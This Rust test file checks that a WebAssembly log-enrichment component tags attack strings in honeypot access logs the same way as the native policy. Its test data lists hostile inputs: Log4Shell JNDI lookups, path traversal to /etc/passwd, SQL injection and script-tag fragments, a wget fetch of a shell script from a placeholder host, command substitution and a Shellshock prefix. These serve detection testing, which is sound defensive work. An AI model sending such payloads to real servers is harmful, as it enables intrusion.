//! The component against the same policy compiled natively: byte for byte the same
//! records, attack tags on. The component searches attack literals with wasm vectors
//! (`simd128`) where the native build walks a DFA, so this is what shows the two agree:
//! attack strings at every offset of short and long fields, in every field, and a
//! generated honeypot corpus with its garbage and invalid lines.

use fixture::corpus::{self, CorpusOptions};
use logenrich::{Batch, Enricher, SettingValue};
use logenrich_policy::{BatchIn, Filter, NoLookups, Setting};

/// Strings that start attack literals (and near misses), as they reach a field.
const TOKENS: &[&str] = &[
    "${jndi:ldap://x/a}",
    "${${lower:j}ndi:",
    "/.env",
    "/.git/config",
    "../../etc/passwd",
    "%2e%2e%2f",
    "'",
    "|sh",
    " or 1=1",
    "union select",
    "<script>",
    "wget http://192.0.2.1/x.sh",
    "$(id)",
    "`id`",
    "/cgi-bin/x/bin/sh",
    "() { :; };",
    "/.en",
    "/bo",
    "ONERROR=",
    "\\x16\\x03\\x01",
];

/// Lines in the honeypot layout with each token at every offset of a request and of a
/// User-Agent, a Referer and an X-Forwarded-For, from fields shorter than a vector to
/// fields of several.
fn attack_lines() -> Vec<String> {
    let mut lines = Vec::new();
    for token in TOKENS {
        for pad in 0..40 {
            let filler = "ab/".repeat(pad).chars().take(pad).collect::<String>();
            let field = format!("{filler}{token}");
            lines.push(format!(
                "192.0.2.1 - - [15/Jul/2022:02:00:00 +0200] \"GET /{field} HTTP/1.1\" 404 1 \
                 \"https://x/{field}\" \"Mozilla/{field}\" \"{field}\" 80 h"
            ));
            lines.push(format!(
                "192.0.2.2 - - [15/Jul/2022:02:00:01 +0200] \"{field}\" 400 1 \"-\" \"-\" \"-\" 80 h"
            ));
        }
    }
    lines
}

fn native(lines: &[String]) -> Vec<u8> {
    let filter = Filter::new(&[
        Setting::new("reverse-dns", SettingValue::Flag(false)),
        Setting::new("geoip", SettingValue::Flag(false)),
        Setting::new("attacks", SettingValue::Flag(true)),
    ])
    .unwrap();
    let batch = Batch::from_lines(1, lines).expect("the corpus fits in one batch");
    let mut out = Vec::new();
    logenrich_policy::batch::process(
        &filter,
        &mut NoLookups,
        BatchIn {
            first_line: 1,
            source: None,
            data: &batch.data,
            ends: &batch.ends,
            parts: &[],
        },
        &mut out,
    );
    out
}

fn component(lines: &[String]) -> Vec<u8> {
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    rt.block_on(async {
        let enricher = Enricher::builder()
            .setting("reverse-dns", SettingValue::Flag(false))
            .setting("geoip", SettingValue::Flag(false))
            .setting("attacks", SettingValue::Flag(true))
            .instances(1)
            .build()
            .await
            .unwrap();
        let done = enricher
            .process(Batch::from_lines(1, lines).expect("fits"))
            .await
            .unwrap();
        assert!(done.failure.is_none(), "{:?}", done.failure);
        done.jsonl
    })
}

#[test]
fn the_component_tags_attacks_as_the_native_policy_does() {
    let mut lines = attack_lines();
    let opts = CorpusOptions {
        lines: 3000,
        unique_ips: 200,
        garbage_share: 0.3,
        ..CorpusOptions::default()
    };
    lines.extend(corpus::lines(&opts));
    let (ours, theirs) = (component(&lines), native(&lines));
    let tagged = String::from_utf8_lossy(&ours).matches("\"rule\":").count();
    assert!(tagged > 2000, "only {tagged} attack hits");
    for (i, (a, b)) in ours
        .split(|&b| b == b'\n')
        .zip(theirs.split(|&b| b == b'\n'))
        .enumerate()
    {
        assert_eq!(
            String::from_utf8_lossy(a),
            String::from_utf8_lossy(b),
            "line {}: {}",
            i + 1,
            lines.get(i).map_or("", String::as_str)
        );
    }
    assert_eq!(ours.len(), theirs.len());
}
